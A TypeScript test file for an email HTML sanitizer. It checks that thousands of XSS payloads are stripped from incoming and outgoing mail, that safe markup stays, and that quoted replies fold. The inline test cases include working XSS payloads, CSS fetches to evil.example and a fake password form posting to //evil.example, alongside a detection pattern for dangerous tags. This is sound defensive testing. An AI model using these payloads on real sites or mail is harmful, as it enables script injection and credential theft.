import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse, serialize, type DefaultTreeAdapterTypes } from 'parse5'
import { describe, expect, test } from 'vitest'
import { foldHtmlReply, sanitizeMailHtml, sanitizeOutgoingHtml } from './sanitize.ts'
import { htmlToText } from './to-text.ts'

const corpus = join(import.meta.dirname, '../../../../../../test/corpus/html')

/** Everything in a browser's reading of the HTML that could run, submit, or fetch. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const forbidden =
    /^(?:script|iframe|frame|frameset|object|embed|applet|form|input|button|select|textarea|link|meta|base|svg|math|template|audio|video|source|track|noscript|xmp|plaintext|portal|isindex|keygen|param|marquee|canvas|map|area)$/
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if ('tagName' in node) {
      if (forbidden.test(node.tagName)) dangers.push(`<${node.tagName}>`)
      for (const { name, value } of node.attrs) dangers.push(...dangersOf(node.tagName, name, value))
      if (node.tagName === 'style') {
        const css = node.childNodes.map((child) => ('value' in child ? child.value : '')).join('')
        if (/url\(|@import|expression|behavior|binding|javascript:|position\s*:|[\\<]/i.test(css))
          dangers.push(`style sheet ${css}`)
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(parse(html))
  return dangers
}

function dangersOf(tag: string, name: string, value: string): string[] {
  // What a browser sees once it has dropped blanks and control characters.
  const url = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
  if (name.startsWith('on')) return [`${name}=${value}`]
  if (name === 'style')
    return /url\(|expression|behavior|binding|import|javascript:|position\s*:|[\\<]/i.test(value)
      ? [`style=${value}`]
      : []
  if (name === 'href')
    return tag === 'a' && /^(?:https?:\/\/|mailto:|tel:|sms:|#)/.test(url) ? [] : [`${tag} href=${value}`]
  if (name === 'src')
    return tag === 'img' && /^(?:data:image\/(?:png|jpe?g|gif|webp|bmp);base64,|\/files\/)/.test(url)
      ? []
      : [`${tag} src=${value}`]
  if (
    /^(?:srcset|srcdoc|background|action|formaction|data|poster|ping|xlink:href|dynsrc|lowsrc|http-equiv|codebase|classid|profile|manifest|is|id|name)$/.test(
      name,
    )
  ) {
    return name === 'name' && tag === 'a' ? [] : [`${name}=${value}`]
  }
  return []
}

/** In mail that leaves, pictures may be parts of it or lie on the web. */
const isPictureOfOurs = (danger: string): boolean => /^img src=(?:cid:[\w.@+%-]+$|https?:\/\/)/.test(danger)

const contexts: [string, (payload: string) => string][] = [
  ['as it is', (payload) => payload],
  ['in a division', (payload) => `<div>${payload}</div>`],
  ['in a quoted attribute', (payload) => `<p title="${payload}" class='${payload}'>x</p>`],
  ['as a link', (payload) => `<a href="${payload}">x</a><a href=${payload}>y</a>`],
  ['as an image', (payload) => `<img src="${payload}" alt=${payload}>`],
  ['as a style', (payload) => `<p style="${payload}">x</p><style>${payload}</style><style>a{${payload}}</style>`],
  [
    'in odd places',
    (payload) =>
      `<table><svg>${payload}</svg><math><mtext>${payload}</math><noscript>${payload}</noscript><textarea>${payload}`,
  ],
]

describe('no payload survives', () => {
  const payloads = [...new Set(readFileSync(join(corpus, 'xss-payload-list/xss-payload-list.txt'), 'utf8').split('\n'))]

  test('there are thousands of them', () => {
    expect(payloads.length).toBeGreaterThan(6000)
  })

  test.each(contexts)('%s', (_, place) => {
    const dangers = payloads.flatMap((payload) => {
      const { html } = sanitizeMailHtml(place(payload), { imageUrl: () => '/files/1' })
      return dangersIn(html).map((danger) => ({ payload, danger }))
    })
    expect(dangers.slice(0, 5)).toEqual([])
  })

  test.each(contexts)('in mail of ours, %s', (_, place) => {
    const dangers = payloads.flatMap((payload) => {
      const html = sanitizeOutgoingHtml(place(payload))
      return dangersIn(html).filter((danger) => !isPictureOfOurs(danger))
    })
    expect(dangers.slice(0, 5)).toEqual([])
  })

  test('not even after a browser has written the result anew', () => {
    const dangers = payloads.flatMap((payload) =>
      dangersIn(serialize(parse(sanitizeMailHtml(`<table><b>${payload}`).html))),
    )
    expect(dangers.slice(0, 5)).toEqual([])
  })

  test('nor from all of them at once, folded', () => {
    expect(dangersIn(foldHtmlReply(payloads.join('\n')).html).slice(0, 5)).toEqual([])
  })

  test.each([
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src=x onerror=alert(1)//',
    '<p style="background:url(//evil.example/x)">x</p>',
    '<p style="background:u\\72l(//evil.example/x)">x</p>',
    '<p style="back/**/ground:url(//evil.example/x)">x</p>',
    '<p style="width:exp/**/ression(alert(1))">x</p>',
    '<style>@import "//evil.example/x.css";</style>',
    '<style>a{}</style ><script>alert(1)</script>',
    '<style><!--</style><script>alert(1)//--></script>',
    '<style>a[href^="</style><img src=x onerror=alert(1)>"]{color:red}</style>',
    '<style>@media x{</style><img src=x onerror=alert(1)>}</style>',
    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    '<base href="//evil.example/"><a href="x">x</a>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">over everything</div>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<link rel=stylesheet href="//evil.example/x.css"><link rel=dns-prefetch href="//evil.example">',
    '<body background="//evil.example/x.png" onload=alert(1)>x</body>',
    '<img srcset="//evil.example/x.png 2x"><picture><source srcset="//evil.example/y.png"><img></picture>',
  ])('%s', (payload) => {
    expect(dangersIn(sanitizeMailHtml(payload).html)).toEqual([])
  })
})

describe('mail of ours', () => {
  test.each([
    ['<p>Dear <b>Ana</b>,</p><ul><li>one</li></ul>', '<p>Dear <b>Ana</b>,</p><ul><li>one</li></ul>'],
    ['<img src="cid:map@desk" alt="map">', '<img src="cid:map@desk" alt="map">'],
    ['<img src="https://shop.example/logo.png">', '<img src="https://shop.example/logo.png">'],
    ['<a href="https://shop.example/?a=1&b=2">x</a>', '<a href="https://shop.example/?a=1&amp;b=2">x</a>'],
    ['<p style="color: red; background: url(//x.example/y)">x</p>', '<p style="color: red">x</p>'],
    ['<img src="cid:a&quot; onerror=alert(1)">', '<img>'],
    ['<img src="/api/v1/attachments/1">', '<img>'],
    ['<script>alert(1)</script><form action="//x.example"><input>Pay</form>', 'Pay'],
  ])('%s', (written, left) => {
    expect(sanitizeOutgoingHtml(written)).toBe(left)
    expect(sanitizeOutgoingHtml(left)).toBe(left)
  })
})

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')

const shown = (html: string) => {
  const texts: string[] = []
  const visit = (node: DefaultTreeAdapterTypes.Node) => {
    if (node.nodeName === '#text' && 'value' in node) texts.push(node.value)
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(parse(html))
  return texts.join('')
}

const folded = (text: string) => text.replace(/[ \t\r\n\f\u00a0]+/g, ' ').trim()

describe('naughty strings', () => {
  const strings: string[] = JSON.parse(readFileSync(join(corpus, 'naughty-strings/blns.json'), 'utf8'))
  test('come through cleaning unchanged', () => {
    const changed = strings.filter((text) => shown(sanitizeMailHtml(`<p>x${escaped(text)}x</p>`).html) !== `x${text}x`)
    expect(changed).toEqual([])
  })

  test('come through as text, but for the white space that HTML folds', () => {
    const changed = strings.filter((text) => folded(htmlToText(`<p>${escaped(text)}</p>`)) !== folded(text))
    expect(changed).toEqual([])
  })
})

describe('what is harmless stays', () => {
  test('structure, dress and links', () => {
    const { html } = sanitizeMailHtml(
      '<table width="600" cellpadding=4><tr><td align=center style="color: #c00; padding: 4px 8px; font-family: \'Open Sans\', Arial"><b>Sale</b></td></tr></table>' +
        '<a href="https://shop.example/?a=1&b=2" onclick="x()">Shop</a> <a href="mailto:ana@post.example">Ana</a> <a href="#top">Top</a>',
    )
    expect(html).toBe(
      '<table width="600" cellpadding="4"><tr><td align="center" style="color: #c00; padding: 4px 8px; font-family: &#39;Open Sans&#39;, Arial"><b>Sale</b></td></tr></table>' +
        '<a href="https://shop.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">Shop</a> ' +
        '<a href="mailto:ana@post.example" rel="noopener noreferrer nofollow" target="_blank">Ana</a> <a href="#top">Top</a>',
    )
  })

  test('style sheets, without what they would fetch', () => {
    const { html, remote } = sanitizeMailHtml(
      '<style>/* x */ @import url(https://evil.example/a.css); @font-face { font-family: X; src: url("https://evil.example/f.woff2") } .a > b { color: red; background: url(https://evil.example/b.png) } @media (max-width: 600px) { .a { width: 100% !important } }</style>',
    )
    expect(html).toBe(
      '<style>.a > b { color: red }\n@media (max-width: 600px) {\n.a { width: 100% !important }\n}</style>',
    )
    expect(remote).toEqual([
      { kind: 'style', url: 'https://evil.example/a.css' },
      { kind: 'font', url: 'https://evil.example/f.woff2' },
      { kind: 'image', url: 'https://evil.example/b.png' },
    ])
  })

  test('own images are shown from us, remote ones are named', () => {
    const { html, remote, blockedRemote } = sanitizeMailHtml(
      '<img src="cid:logo%40shop" alt="Logo"><img src="cid:gone"><img src="https://track.example/p.gif?u=1" width=1><img src="//track.example/q.gif"><img src="https://track.example/p.gif?u=1">',
      { imageUrl: (contentId) => (contentId === 'logo@shop' ? '/files/7' : null) },
    )
    expect(html).toBe(
      '<img src="/files/7" alt="Logo"><img><img data-remote-src="https://track.example/p.gif?u=1" width="1">' +
        '<img data-remote-src="https://track.example/q.gif"><img data-remote-src="https://track.example/p.gif?u=1">',
    )
    expect(remote.map(({ url }) => url)).toEqual(['https://track.example/p.gif?u=1', 'https://track.example/q.gif'])
    expect(blockedRemote).toBe(3)
  })

  test('crossed and missing tags come out balanced', () => {
    expect(sanitizeMailHtml('<p>a<b>b<i>c</b>d<p>e</div><td>f').html).toBe(
      '<p>a<b>b<i>c</i></b>d</p><p>e<td>f</td></p>',
    )
  })
})

describe('folding', () => {
  test.each([
    [
      'Gmail',
      '<div dir="ltr">My words</div><br><div class="gmail_quote"><div class="gmail_attr">vendredi, X:<br></div><blockquote class="gmail_quote">Their words</blockquote></div>',
    ],
    [
      'Apple Mail',
      '<div>My words</div><div><blockquote type="cite"><div>On 5 May 2026, at 10:00, Ana &lt;ana@post.example&gt; wrote:</div><div>Their words</div></blockquote></div>',
    ],
    [
      'Thunderbird',
      '<p>My words</p><div class="moz-cite-prefix">Am 05.05.26 um 10:00 schrieb Ana:<br></div><blockquote type="cite">Their words</blockquote>',
    ],
    [
      'Outlook',
      '<div class="WordSection1"><p>My words</p><div style="border-top:solid #E1E1E1 1.0pt"><p><b>Von:</b> Ana &lt;ana@post.example&gt;<br><b>Gesendet:</b> Montag, 5. Mai 2026 10:00<br><b>An:</b> Help<br><b>Betreff:</b> Order</p></div><p>Their words</p></div>',
    ],
    [
      'Outlook on the web',
      '<div>My words</div><div id="appendonsend"></div><hr><div id="divRplyFwdMsg"><b>From:</b> Ana<br><b>Sent:</b> Monday, May 5, 2026 10:00 AM<br><b>To:</b> Help<br><b>Subject:</b> Order</div><div>Their words <img src="https://x.example/l.png"></div>',
    ],
    [
      'Yahoo',
      '<div>My words</div><div class="yahoo_quoted"><div>On Monday, May 5, 2026, 10:00 AM, Ana &lt;ana@post.example&gt; wrote:</div><div>Their words</div></div>',
    ],
    [
      'Proton',
      '<div>My words</div><div class="protonmail_quote">jan 5 a las 10, Ana:<blockquote>Their words</blockquote></div>',
    ],
    [
      'GMX',
      '<div>My words</div><div name="quote" style="border-left:2px solid"><div><b>Gesendet:</b>&nbsp;Montag, 05. Mai 2026 um 10:00<br><b>Von:</b> Ana</div><div>Their words</div></div>',
    ],
  ])('%s: the reply stays, the quote is marked', (_, html) => {
    const { replyHtml, html: whole, hasQuoted } = foldHtmlReply(html)
    expect(hasQuoted).toBe(true)
    expect(htmlToText(replyHtml)).toBe('My words')
    expect(whole).toContain('data-quoted="true"')
    expect(whole).toContain('Their words')
  })

  test('a forwarded mail is what the customer wants read', () => {
    const { replyHtml, hasQuoted } = foldHtmlReply(
      '<div>Look</div><div class="gmail_quote">---------- Forwarded message ---------<br>From: Shop &lt;shop@shop.example&gt;<br>Date: Mon, 5 May 2026<br>Subject: Bill<br>To: Ana<br><br>The bill</div>',
    )
    expect(hasQuoted).toBe(false)
    expect(replyHtml).toContain('The bill')
  })

  test('answers between the quotes keep their questions', () => {
    const html = 'Hi<blockquote>One?</blockquote>Yes.<blockquote>Two?</blockquote>No.'
    expect(foldHtmlReply(html)).toMatchObject({ hasQuoted: false, replyHtml: html })
  })
})
